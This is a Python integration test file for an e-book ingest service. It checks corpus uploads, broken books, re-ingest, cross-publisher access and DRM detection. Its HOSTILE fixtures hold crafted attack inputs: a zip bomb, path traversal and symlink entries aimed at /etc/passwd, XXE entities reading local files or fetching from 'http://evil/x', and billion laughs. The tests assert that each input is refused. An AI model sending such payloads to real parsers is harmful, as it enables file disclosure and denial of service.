"""Publisher ingest against real MongoDB and S3: the whole corpus, hostile files, re-ingest and withdrawal."""

from __future__ import annotations

import json
import stat
import zipfile
from pathlib import Path

import pytest

from reader.errors import DrmProtectedFile, UnreadableFile, UnsafeFile, UnsupportedFormat
from reader.service_layer.ingest import SubmittedMetadata
from sachso.events.v1 import reader_events_pb2
from tests.corpus import CORPUS
from tests.crafted import CHAPTER, PACKAGE, container, epub_bytes, pdf_bytes
from tests.integration.reader.conftest import ReaderUnderTest
from tests.official_schemas import POSITIONS, validated

pytestmark = pytest.mark.integration

BOOKS = sorted((CORPUS / "epub").glob("*.epub")) + sorted((CORPUS / "pdf").glob("*.pdf"))
WEBPUB = "application/webpub+json"
BROKEN = sorted((CORPUS / "epub-broken").glob("*.epub"))


async def test_every_corpus_book_is_accepted_with_a_manifest(reader: ReaderUnderTest) -> None:
    titled_by_name = 0
    for book in BOOKS:
        result = await reader.ingest.ingest("nxb-tre", book, SubmittedMetadata(), file_name=book.name)
        assert result.created, book.name
        document = await reader.publications.find_one({"_id": result.publication_id})
        assert document is not None
        manifest = document["manifest"]
        assert manifest["metadata"]["title"], book.name
        if book.suffix == ".pdf" and document["title"] == book.stem:  # no title of its own: its name, and a warning
            assert manifest["metadata"]["title"] == book.stem
            assert any("taken from its name" in warning for warning in document["warnings"]), book.name
            titled_by_name += 1
        assert manifest["readingOrder"], book.name
        objects = await reader.s3.list_objects_v2(Bucket=reader.bucket, Prefix=f"{result.publication_id}/")
        assert objects["KeyCount"] == 1, book.name
        if book.suffix == ".epub":
            assert document["epubcheck"]["fatals"] == 0, book.name
        token = reader.streaming_token(result.publication_id)  # the client's hook validates both (official schemas)
        assert (await reader.http.get(f"/v1/read/{token}/manifest.json")).status_code == 200, book.name
        assert (await reader.http.get(f"/v1/read/{token}/~readium/positions")).status_code == 200, book.name
    assert titled_by_name == 2  # R-intro and R-refman carry no title of their own
    assert validated.count(WEBPUB) >= len(BOOKS)
    assert validated.count(POSITIONS) >= len(BOOKS)
    events = await reader.events("PublicationIngested")
    assert len(events) == len(BOOKS)
    titles = {reader_events_pb2.PublicationIngested.FromString(bytes(e["data"])).metadata.title for e in events}
    assert "Sổ tay Cài đặt Debian GNU/Linux" in titles  # NFC, from the Vietnamese EPUB


async def test_broken_books_are_flagged_or_refused_with_a_reason(reader: ReaderUnderTest) -> None:
    outcomes = {}
    for book in BROKEN:
        try:
            result = await reader.ingest.ingest("nxb-tre", book, SubmittedMetadata(title=book.stem))
        except UnreadableFile as refused:
            outcomes[book.name] = f"refused: {refused.detail}"
        else:
            assert result.flagged, book.name
            assert result.warnings, book.name
            outcomes[book.name] = "flagged"
            token = reader.streaming_token(result.publication_id)  # a flagged book's manifest is valid too
            assert (await reader.http.get(f"/v1/read/{token}/manifest.json")).status_code == 200, book.name
    assert outcomes["debian-debmake-doc.en.epub"] == "flagged"
    live = await reader.publications.find_one({"title": "debian-live-manual.en"})
    assert live is not None
    assert live["epubcheck"]["errors"] > 0  # EPUBCheck's own report is kept with the publication
    assert any(warning.startswith("EPUBCheck OPF-030") for warning in live["warnings"])
    assert outcomes["debian-live-manual.en.epub"] == "flagged"
    assert outcomes["readium-Tiny-3-Bad.epub"].startswith("refused: none of the documents in the reading order")


def symlink(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


ENCRYPTED_CHAPTER = b"""<?xml version="1.0"?>
<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#">
<enc:EncryptedData><enc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>
<enc:CipherData><enc:CipherReference URI="OPS/chapter.xhtml"/></enc:CipherData></enc:EncryptedData></encryption>"""

HOSTILE: dict[str, tuple[bytes, type[Exception], str]] = {
    "zip bomb": (epub_bytes([("OPS/bomb.xhtml", b"\0" * 60_000_000)]), UnsafeFile, "zip bomb"),
    "path traversal": (epub_bytes([("../../etc/cron.d/x", b"x")]), UnsafeFile, "path traversal"),
    "absolute path": (epub_bytes([("/etc/passwd", b"x")]), UnsafeFile, "absolute path"),
    "symbolic link": (epub_bytes([(symlink("OPS/link"), b"/etc/passwd")]), UnsafeFile, "symbolic link"),
    "duplicate entry": (epub_bytes([("OPS/chapter.xhtml", CHAPTER)]), UnsafeFile, "appears twice"),
    "external entity": (
        epub_bytes(
            [("OPS/x.xhtml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')]
        ),
        UnsafeFile,
        "external entity",
    ),
    "external entity in a package document not named .opf": (
        epub_bytes(
            container=container("OPS/package.dat"),
            opf_path="OPS/package.dat",
            opf=PACKAGE.replace(
                b'<?xml version="1.0"?>', b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            ).replace(b"<dc:language>vi", b"<dc:language>&e;vi"),
        ),
        UnsafeFile,
        "OPS/package.dat: declares the external entity",
    ),
    "parameter entity in an entry named like a picture": (
        epub_bytes([("OPS/cover.jpg", b'\xef\xbb\xbf <!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x">%p;]><x/>')]),
        UnsafeFile,
        "OPS/cover.jpg: declares the parameter entity",
    ),
    "billion laughs": (
        epub_bytes(
            [("OPS/x.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>')]
        ),
        UnsafeFile,
        "entity expansion",
    ),
    "an LCP-protected EPUB": (
        (CORPUS / "lcp" / "wasteland-otf-obf_LCP_dan.epub").read_bytes(),
        DrmProtectedFile,
        r"DRM-protected: it carries a Readium LCP licence \(META-INF/license.lcpl\); encrypted resources",
    ),
    "an EPUB with Adobe DRM rights": (
        epub_bytes([("META-INF/rights.xml", b'<?xml version="1.0"?><rights xmlns="http://ns.adobe.com/adept"/>')]),
        DrmProtectedFile,
        r"Adobe DRM rights \(META-INF/rights.xml\)",
    ),
    "an EPUB with encrypted resources and no licence": (
        epub_bytes([("META-INF/encryption.xml", ENCRYPTED_CHAPTER)]),
        DrmProtectedFile,
        r"encrypted resources in META-INF/encryption.xml \(OPS/chapter.xhtml with http://www.w3.org/2001/04/xmlenc#aes256-cbc\)",
    ),
    "an Adobe-protected PDF": (
        pdf_bytes(encrypt=b"<< /Filter /EBX_HANDLER /V 2 /R 3 >>"),
        DrmProtectedFile,
        "the PDF is encrypted",
    ),
    "a password-protected PDF": (
        pdf_bytes(
            encrypt=f"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <{'11' * 32}> /U <{'22' * 32}> >>".encode()
        ),
        DrmProtectedFile,
        "the PDF is encrypted",
    ),
    "a picture": (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, UnsupportedFormat, "neither an EPUB"),
    "a zip that is not an EPUB": (epub_bytes([], mimetype_first=False), UnsupportedFormat, "neither an EPUB"),
    "a truncated PDF": (b"%PDF-1.7\n1 0 obj garbage", UnreadableFile, "not a readable PDF"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
async def test_hostile_files_are_refused_precisely_and_leave_nothing_behind(
    reader: ReaderUnderTest, tmp_path: Path, case: str
) -> None:
    data, error, reason = HOSTILE[case]
    path = tmp_path / "upload"
    path.write_bytes(data)
    with pytest.raises(error, match=reason):
        await reader.ingest.ingest("nxb-tre", path, SubmittedMetadata())
    assert await reader.publications.count_documents({}) == 0
    assert (await reader.s3.list_objects_v2(Bucket=reader.bucket))["KeyCount"] == 0
    assert await reader.outbox.collection.count_documents({}) == 0


async def test_the_small_valid_book_is_accepted(reader: ReaderUnderTest, tmp_path: Path) -> None:
    path = tmp_path / "book.epub"
    path.write_bytes(epub_bytes([]))
    result = await reader.ingest.ingest("nxb-tre", path, SubmittedMetadata())
    document = await reader.publications.find_one({"_id": result.publication_id})
    assert document is not None
    assert document["title"] == "Thư thử"


async def test_upload_over_http_reingest_replace_and_withdraw(reader: ReaderUnderTest) -> None:
    book = CORPUS / "epub" / "hefty-water.epub"
    metadata = {"title": "Nước nặng", "authors": ["Nguyễn Văn A"], "isbn": "978-604-1-00000-1", "language": "vi",
                "terms": {"model": "metered", "concurrency": 1, "checkouts": 26}}  # fmt: skip
    files = {"file": ("hefty.epub", book.read_bytes(), "application/epub+zip")}
    tre = reader.publisher("nxb-tre")
    created = await reader.http.post(
        "/v1/publications", files=files, data={"metadata": json.dumps(metadata)}, headers=tre
    )
    assert created.status_code == 201, created.text
    publication_id = created.json()["id"]
    again = await reader.http.post(
        "/v1/publications", files=files, data={"metadata": json.dumps(metadata)}, headers=tre
    )
    assert again.status_code == 200
    assert again.json() == {**created.json(), "created": False}
    other_file = {"file": ("trees.epub", (CORPUS / "epub" / "trees.epub").read_bytes(), "application/epub+zip")}
    same_isbn = await reader.http.post(
        "/v1/publications", files=other_file, data={"metadata": json.dumps(metadata)}, headers=tre
    )
    assert same_isbn.json()["id"] == publication_id  # the same book (ISBN): its file is replaced
    assert same_isbn.json()["file_replaced"] is True

    kim_dong = reader.publisher("nxb-kim-dong")  # another publisher is told there is no such publication
    stolen = await reader.http.put(f"/v1/publications/{publication_id}/file", files=files, headers=kim_dong)
    assert stolen.status_code == 404
    assert (await reader.http.delete(f"/v1/publications/{publication_id}", headers=kim_dong)).status_code == 404
    assert (await reader.http.get(f"/v1/publications/{publication_id}", headers=kim_dong)).status_code == 404
    patron = await reader.http.post("/v1/publications", files=files, headers=reader.patron("ana"))
    assert patron.status_code == 403
    assert (await reader.http.post("/v1/publications", files=files)).status_code == 401

    assert (await reader.http.delete(f"/v1/publications/{publication_id}", headers=tre)).status_code == 204
    (ingested,) = await reader.events("PublicationIngested")
    event = reader_events_pb2.PublicationIngested.FromString(bytes(ingested["data"]))
    assert event.metadata.title == "Nước nặng"
    assert event.offered_terms.checkouts == 26
    assert len(await reader.events("PublicationUpdated")) == 2
    assert len(await reader.events("PublicationWithdrawn")) == 1

    bad_metadata = await reader.http.post("/v1/publications", files=files, data={"metadata": "{nope"}, headers=tre)
    assert bad_metadata.status_code == 400
    no_file = await reader.http.post("/v1/publications", data={"metadata": "{}"}, headers=tre)
    assert no_file.status_code == 400
    for length, status in (("9" * 5000, 413), ("12abc", 400), ("-1", 400)):
        odd = await reader.http.post(
            "/v1/publications", content=b"x", headers={**tre, "Content-Length": length, "Content-Type": "text/plain"}
        )
        assert odd.status_code == status, length
        assert odd.headers["content-type"] == "application/problem+json"


async def test_the_same_file_from_another_publisher_is_another_publication(reader: ReaderUnderTest) -> None:
    book = CORPUS / "epub" / "hefty-water.epub"
    metadata = {"title": "Nước nặng", "isbn": "978-604-1-00000-1"}
    files = {"file": ("hefty.epub", book.read_bytes(), "application/epub+zip")}
    tre, kim_dong = reader.publisher("nxb-tre"), reader.publisher("nxb-kim-dong")
    owned = await reader.http.post(
        "/v1/publications", files=files, data={"metadata": json.dumps(metadata)}, headers=tre
    )
    assert owned.status_code == 201
    original = owned.json()["id"]

    same_bytes = {"title": "Heavy Water", "isbn": "978-604-1-00000-1"}  # same file, same ISBN, other publisher
    other = await reader.http.post(
        "/v1/publications", files=files, data={"metadata": json.dumps(same_bytes)}, headers=kim_dong
    )
    assert other.status_code == 201
    assert other.json()["id"] != original
    mine = await reader.http.get(f"/v1/publications/{original}", headers=tre)
    assert mine.status_code == 200
    assert mine.json()["title"] == "Nước nặng"
    theirs = await reader.http.get(f"/v1/publications/{other.json()['id']}", headers=kim_dong)
    assert theirs.json()["title"] == "Heavy Water"
    assert (await reader.http.get(f"/v1/publications/{other.json()['id']}", headers=tre)).status_code == 404
    stored = await reader.publications.find_one({"_id": original})
    assert stored is not None
    assert stored["publisher_id"] == "nxb-tre"
    ingested = [reader_events_pb2.PublicationIngested.FromString(bytes(e["data"])) for e in await reader.events(
        "PublicationIngested")]  # fmt: skip
    assert {(event.publication_id, event.publisher_id) for event in ingested} == {
        (original, "nxb-tre"),
        (other.json()["id"], "nxb-kim-dong"),
    }
    assert await reader.events("PublicationUpdated") == []  # nothing of the first publisher's was touched

    trees = {"file": ("trees.epub", (CORPUS / "epub" / "trees.epub").read_bytes(), "application/epub+zip")}
    second = (await reader.http.post("/v1/publications", files=trees, headers=tre)).json()["id"]
    clash = await reader.http.put(f"/v1/publications/{original}/file", files=trees, headers=tre)
    assert clash.status_code == 409  # the file is already another of this publisher's publications: named
    assert clash.json()["type"].endswith("/file-already-published")
    assert clash.json()["publication_id"] == second

    moby = {"file": ("moby.epub", (CORPUS / "epub" / "moby-dick.epub").read_bytes(), "application/epub+zip")}
    replaced = await reader.http.put(f"/v1/publications/{original}/file", files=moby, headers=tre)
    assert replaced.json()["file_replaced"] is True
    again = await reader.http.post("/v1/publications", files=files, headers=tre)  # the first file, again, new
    assert again.status_code == 201
    assert again.json()["id"] not in (original, other.json()["id"], second)
    kept = await reader.publications.find_one({"_id": original})
    assert kept is not None
    assert kept["title"] == "Moby-Dick"  # the publication that once held this file keeps its new one


async def test_a_pdf_without_a_title_is_named_after_its_file_and_refused_only_when_nothing_names_it(
    reader: ReaderUnderTest,
) -> None:
    tre = reader.publisher("nxb-tre")
    untitled = pdf_bytes(pages=2)
    named = await reader.http.post(
        "/v1/publications", files={"file": ("Địa_chí Đắk Lắk.pdf", untitled, "application/pdf")}, headers=tre
    )
    assert named.status_code == 201, named.text
    assert named.json()["status"] == "flagged"
    status = (await reader.http.get(f"/v1/publications/{named.json()['id']}", headers=tre)).json()
    assert status["title"] == status["manifest"]["metadata"]["title"] == "Địa chí Đắk Lắk"

    nameless = await reader.http.post(
        "/v1/publications",
        files={"file": ("___.pdf", pdf_bytes(pages=3), "application/pdf")},
        headers=reader.publisher("nxb-kim-dong"),
    )
    assert nameless.status_code == 400
    assert nameless.json()["type"].endswith("/unreadable-publication")
    assert "give one in the metadata" in nameless.json()["detail"]
    given = await reader.http.post(
        "/v1/publications",
        files={"file": ("___.pdf", pdf_bytes(pages=3), "application/pdf")},
        data={"metadata": json.dumps({"title": "Sổ tay\u00a0địa chí"})},
        headers=reader.publisher("nxb-kim-dong"),
    )
    assert given.status_code == 201
    assert (await reader.publications.find_one({"_id": given.json()["id"]}) or {})["title"] == "Sổ tay\u00a0địa chí"

    embedded = await reader.http.post(
        "/v1/publications",
        files={"file": ("x.pdf", pdf_bytes(info={"Title": "100\u00a0bài\n thơ"}), "application/pdf")},
        headers=tre,
    )
    assert embedded.json()["status"] == "accepted"
    document = await reader.publications.find_one({"_id": embedded.json()["id"]})
    assert document is not None
    assert document["title"] == document["manifest"]["metadata"]["title"] == "100\u00a0bài thơ"
